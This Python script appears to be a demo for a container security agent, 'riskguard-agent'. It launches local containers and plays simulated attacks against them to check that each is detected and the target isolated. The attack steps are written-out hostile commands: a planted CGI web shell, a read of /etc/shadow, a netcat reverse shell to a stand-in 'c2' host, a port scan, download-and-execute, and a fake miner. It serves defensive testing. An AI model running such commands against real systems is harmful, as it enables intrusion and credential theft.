#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""riskguard-agent demo: a small host of real containers, a learning period, then attacks.

    scripts/demo.sh [--learn-seconds N] [--keep]

Builds from local images only (no registry): a web server with an access log and a CGI web
shell (``web``), its benign replica (``web-2``), a worker, a client sending requests, a
Debian-based container with a package that a local OSV fixture marks vulnerable, and an
"attacker" listener (``c2``). The agent runs in enforce mode and learns; then each attack is
played inside ``web``; the demo waits for the finding and the isolation, prints them, and
releases the container with ``riskguardctl release``. The e2e test (tests/e2e/test_protection.py)
runs the same scenarios with assertions.
"""

from __future__ import annotations

import argparse
import json
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docker

from agent.findings import Severity

REPO = Path(__file__).resolve().parent.parent
VENV_BIN = REPO / ".venv" / "bin"
BASE_IMAGE = "riskguard-test/busybox"
DEBIAN_IMAGE = "riskguard-demo/debian"
NETWORK = "rgdemo-net"
LABEL = "riskguard.demo"
VULNERABLE_PACKAGE = "bash"  # Essential on Debian: always in the host's dpkg database

# The web server: busybox httpd with its access log on stderr (Docker keeps it), a static page,
# a payload others can download, and the vulnerability the attacker uses: cgi-bin/sh, a shell
# that runs whatever is POSTed to it.
WEB_CMD = (
    "mkdir -p /var/www/cgi-bin && ln -sf /bin/busybox /var/www/cgi-bin/sh"
    " && cp /bin/busybox /var/www/tool && exec httpd -f -vv -p 8080 -h /var/www"
)


@dataclass(frozen=True)
class Attack:
    """One attack scenario: what is played, where, and the detector that must catch it."""

    name: str
    target: str  # the demo container that is attacked
    detector: str  # the detector id whose finding must name the target
    description: str
    # (container name, shell command) run detached, so a freeze cannot hang the demo
    steps: tuple[tuple[str, str], ...]


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "web_shell",
        "web",
        "RG-0001",
        "a shell spawned by the web server (a POST to the CGI web shell)",
        (
            (
                "client",
                "wget -q -O- --post-data 'echo Content-Type: text/plain; echo; id; uname -a' "
                "http://web:8080/cgi-bin/sh",
            ),
        ),
    ),
    Attack("shadow_read", "web", "RG-0002", "reading /etc/shadow", (("web", "cat /etc/shadow >/dev/null"),)),
    Attack(
        "reverse_shell",
        "web",
        "RG-0005",
        "a reverse shell: nc to the demo's listener with a shell on the socket",
        (("web", "nc c2 4444 -e /bin/sh"),),
    ),
    Attack(
        "port_scan",
        "web",
        "RG-0013",
        "a port scan of the demo's worker container",
        (("web", "for p in $(seq 1 40); do nc -w 1 worker $p </dev/null; done"),),
    ),
    Attack(
        "download_exec",
        "web",
        "RG-0004",
        "download a binary into /tmp and run it",
        (("web", "wget -q -O /tmp/tool http://web-2:8080/tool && chmod +x /tmp/tool && /tmp/tool echo pwned"),),
    ),
    Attack(
        "miner",
        "web",
        "RG-0012",
        "a miner-like CPU loop that announces a stratum pool",
        (("web", "exec sh -c 'while :; do :; done' xmrig -o stratum+tcp://c2:3333 --donate-level 1"),),
    ),
)

BENIGN = ("web-2", "worker", "client", "debian", "c2")


def host_debian_files() -> dict[str, bytes]:
    """This host's Debian identity and dpkg database: the Debian image is made from them."""
    return {
        "etc/os-release": Path("/etc/os-release").read_bytes(),
        "etc/debian_version": Path("/etc/debian_version").read_bytes(),
        "var/lib/dpkg/status": Path("/var/lib/dpkg/status").read_bytes(),
    }


def dpkg_version(status: str, package: str) -> str:
    """The installed version of ``package`` in a dpkg status file."""
    for para in status.split("\n\n"):
        fields = dict(line.split(": ", 1) for line in para.splitlines() if ": " in line and not line.startswith(" "))
        if fields.get("Package") == package and "installed" in fields.get("Status", ""):
            return fields["Version"]
    raise LookupError(f"{package} is not installed on this host")


def write_osv_fixture(folder: Path, status: str) -> dict[str, Any]:
    """An OSV record marking the installed ``VULNERABLE_PACKAGE`` vulnerable (fixed one revision
    later), as Debian's OSV export would."""
    version = dpkg_version(status, VULNERABLE_PACKAGE)
    record = {
        "schema_version": "1.6.0",
        "id": "DEBIAN-CVE-2026-40001",
        "aliases": ["CVE-2026-40001"],
        "modified": "2026-11-01T00:00:00Z",
        "published": "2026-10-01T00:00:00Z",
        "summary": f"{VULNERABLE_PACKAGE}: demo vulnerability (local fixture)",
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
        "affected": [
            {
                "package": {"ecosystem": "Debian:12", "name": VULNERABLE_PACKAGE},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": f"{version}+rgdemo1"}]}],
            }
        ],
    }
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{record['id']}.json").write_text(json.dumps(record, indent=2))
    return record


@dataclass
class DemoHost:
    """The demo's containers and images; everything it makes carries the ``riskguard.demo`` label."""

    client: Any
    names: dict[str, str] = field(default_factory=dict)  # role -> container name
    containers: dict[str, Any] = field(default_factory=dict)  # role -> docker container

    def build_debian_image(self) -> None:
        try:
            self.client.images.get(DEBIAN_IMAGE)
            return
        except docker.errors.ImageNotFound:
            pass
        with tempfile.TemporaryDirectory() as tmp:
            for rel, data in host_debian_files().items():
                (Path(tmp) / Path(rel).name).write_bytes(data)
            (Path(tmp) / "Dockerfile").write_text(
                f"FROM {BASE_IMAGE}\n"
                "COPY os-release /etc/os-release\n"
                "COPY debian_version /etc/debian_version\n"
                "COPY status /var/lib/dpkg/status\n"
            )
            self.client.images.build(path=tmp, tag=DEBIAN_IMAGE, rm=True, pull=False)

    def start(self, prefix: str = "rgdemo") -> None:
        self.build_debian_image()
        self.remove()
        self.client.networks.create(NETWORK, driver="bridge", labels={LABEL: "1"})
        specs: dict[str, tuple[str, str]] = {
            "c2": (
                BASE_IMAGE,
                "while true; do nc -l -p 4444 >/dev/null; done & while true; do nc -l -p 3333 >/dev/null; done",
            ),
            "web": (BASE_IMAGE, WEB_CMD),
            "web-2": (BASE_IMAGE, WEB_CMD),
            "worker": (
                BASE_IMAGE,
                "while true; do sha1sum /bin/busybox >/dev/null; "
                "wget -q -O /dev/null http://web-2:8080/ 2>/dev/null; sleep 1; done",
            ),
            "client": (
                BASE_IMAGE,
                "while true; do wget -q -O /dev/null http://web:8080/index.html 2>/dev/null; "
                "wget -q -O /dev/null http://web-2:8080/index.html 2>/dev/null; sleep 0.5; done",
            ),
            "debian": (DEBIAN_IMAGE, "sleep 86400"),
        }
        api = self.client.api
        for role, (image, cmd) in specs.items():
            name = f"{prefix}-{role}"
            # the role is the container's DNS alias on the demo network (web, worker, c2 …)
            created = api.create_container(
                image,
                ["sh", "-c", cmd],
                name=name,
                hostname=role,
                labels={LABEL: "1", "app": role.split("-")[0]},
                host_config=api.create_host_config(network_mode=NETWORK),
                networking_config=api.create_networking_config({NETWORK: api.create_endpoint_config(aliases=[role])}),
            )
            api.start(created["Id"])
            self.names[role] = name
            self.containers[role] = self.client.containers.get(created["Id"])

    def remove(self) -> None:
        for c in self.client.containers.list(all=True, filters={"label": LABEL}):
            _thaw(c.id)
            c.remove(force=True)
        for n in self.client.networks.list(filters={"label": LABEL}):
            n.remove()

    def exec_detached(self, role: str, command: str) -> None:
        self.containers[role].exec_run(["sh", "-c", command], detach=True)

    def id_of(self, role: str) -> str:
        return str(self.containers[role].id)


def _thaw(container_id: str) -> None:
    """Best effort: a frozen container cannot be removed cleanly."""
    for path, value in (
        (Path("/sys/fs/cgroup/freezer/docker", container_id, "freezer.state"), "THAWED"),
        (Path("/sys/fs/cgroup/unified/docker", container_id, "cgroup.freeze"), "0"),
    ):
        try:
            path.write_text(value)
        except OSError:
            pass


def demo_settings(state: Path, vulndb: Path, learn_seconds: float, window: float = 2.0) -> str:
    """The demo's agent.yaml sections besides ``state``/``control``: every feature on, enforce
    mode, a short learning period, outputs under ``state``."""
    min_windows = max(8, int(learn_seconds / window) // 2)
    # Enforce only on the demo's own containers: anything else on this host is observed.
    return f"""
response: {{mode: observe, overrides: [{{labels: {{{LABEL}: "1"}}, mode: enforce}}]}}
behavior: {{window_seconds: {window}, learning_seconds: {learn_seconds}, min_windows: {min_windows}}}
capture: {{enabled: true}}
vuln: {{db: {{path: {vulndb}}}}}
outputs: {{alerts_file: {state}/alerts.jsonl, metrics: {{port: 0}}}}
network: {{selinux: {{directory: {state}/selinux}}}}
"""


def ctl(socket: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(VENV_BIN / "riskguardctl"), "--socket", str(socket), *args], capture_output=True, text=True, timeout=60
    )


def ctl_json(socket: Path, *args: str) -> Any:
    r = ctl(socket, *args, "--json")
    if r.returncode != 0:
        raise RuntimeError(f"riskguardctl {' '.join(args)}: {r.stderr.strip()}")
    return json.loads(r.stdout)


def wait_for(predicate: Callable[[], Any], timeout: float, what: str) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            raise TimeoutError(f"timed out after {timeout}s waiting for {what}")
        time.sleep(0.1)


@dataclass
class Outcome:
    attack: Attack
    finding: dict[str, Any]
    action: dict[str, Any]
    seconds_to_isolation: float


def play(host: DemoHost, socket: Path, attack: Attack, timeout: float = 60.0) -> Outcome:
    """Play ``attack``, wait for its finding and the isolation of the target; return them."""
    target = host.id_of(attack.target)
    t0 = time.time()
    for role, command in attack.steps:
        host.exec_detached(role, command)

    def finding() -> dict[str, Any] | None:
        for f in ctl_json(socket, "findings", "--container", target, "--limit", "200"):
            if f["detector_id"] == attack.detector and f["ts"] >= t0 - 1:
                return dict(f)
        return None

    def isolation() -> dict[str, Any] | None:
        for a in ctl_json(socket, "actions", "--container", target):
            if a["action"] in ("freeze", "quarantine") and a["phase"] == "confirmed" and a["created"] >= t0 - 1:
                return dict(a)
        return None

    f = wait_for(finding, timeout, f"{attack.detector} finding on {attack.target}")
    a = wait_for(isolation, timeout, f"isolation of {attack.target}")
    confirmed = max((h["ts"] for h in a.get("history", []) if h["phase"] == "confirmed"), default=a["updated"])
    return Outcome(attack, f, a, confirmed - t0)


def release(host: DemoHost, socket: Path, role: str) -> list[dict[str, Any]]:
    """``riskguardctl release`` the container and wait until nothing is in effect on it."""
    cid = host.id_of(role)
    out = ctl_json(socket, "release", cid)
    wait_for(
        lambda: not [a for a in ctl_json(socket, "actions", "--container", cid) if a["active"]], 30, f"{role} released"
    )
    # the container answers again
    wait_for(lambda: host.containers[role].exec_run(["true"]).exit_code == 0, 10, f"{role} answers")
    return list(out)


def isolations_of(socket: Path, container_id: str) -> list[dict[str, Any]]:
    return [
        a
        for a in ctl_json(socket, "actions", "--container", container_id)
        if a["action"] in ("freeze", "quarantine") and not a["dry_run"]
    ]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--learn-seconds", type=float, default=60.0)
    parser.add_argument("--workdir", type=Path, default=Path("/tmp/riskguard-demo"))
    parser.add_argument("--keep", action="store_true", help="leave the containers and the agent running")
    args = parser.parse_args(argv)

    work: Path = args.workdir
    shutil.rmtree(work, ignore_errors=True)
    (work / "run").mkdir(parents=True)
    socket = work / "run" / "agent.sock"
    vulndb = work / "vulndb.sqlite"
    status = host_debian_files()["var/lib/dpkg/status"].decode()
    record = write_osv_fixture(work / "osv", status)
    subprocess.run(
        [str(VENV_BIN / "riskguard-agent"), "vulndb", "import", str(work / "osv"), "--db", str(vulndb)],
        check=True,
        capture_output=True,
    )
    print(f"== local OSV fixture: {record['id']} marks {VULNERABLE_PACKAGE} vulnerable")

    cfg = work / "agent.yaml"
    state = work / "state"
    cfg.write_text(
        f"state: {{dir: {state}}}\ncontrol: {{socket: {socket}}}\n" + demo_settings(state, vulndb, args.learn_seconds)
    )
    cfg.chmod(0o600)
    log = (work / "agent.log").open("w")
    agent = subprocess.Popen(
        [str(VENV_BIN / "riskguard-agent"), "run", "--config", str(cfg)], stdout=log, stderr=subprocess.STDOUT
    )
    host = DemoHost(docker.from_env())
    try:
        wait_for(lambda: socket.exists() and ctl(socket, "status").returncode == 0, 120, "the agent")
        print(f"== agent running (pid {agent.pid}), log: {work / 'agent.log'}, alerts: {work}/state/alerts.jsonl")
        host.start()
        wait_for(lambda: len(ctl_json(socket, "containers")) >= len(host.names), 10, "discovery")
        print(ctl(socket, "containers").stdout)
        print(f"== learning normal behaviour for {args.learn_seconds:g}s …")
        time.sleep(args.learn_seconds + 5)
        outcomes = []
        for attack in ATTACKS:
            print(f"== attack {attack.name}: {attack.description}")
            o = play(host, socket, attack)
            outcomes.append(o)
            severity = str(Severity(int(o.finding["severity"])))
            print(f"   finding {o.finding['detector_id']} ({severity}): {o.finding['summary']}")
            print(
                f"   {o.action['action']} of {attack.target} confirmed {o.seconds_to_isolation:.2f}s after the attack"
            )
            release(host, socket, attack.target)
            print(f"   released with: riskguardctl release {attack.target}")
        touched = {role: isolations_of(socket, host.id_of(role)) for role in BENIGN}
        print("== benign containers untouched:", all(not v for v in touched.values()))
        print(ctl(socket, "findings", "--severity", "high", "--limit", "20").stdout)
        print(ctl(socket, "status").stdout)
        print(ctl(socket, "plans").stdout)
        return 0 if all(not v for v in touched.values()) else 1
    finally:
        if not args.keep:
            host.remove()
            agent.send_signal(signal.SIGTERM)
            agent.wait(30)
        log.close()


if __name__ == "__main__":
    sys.exit(main())
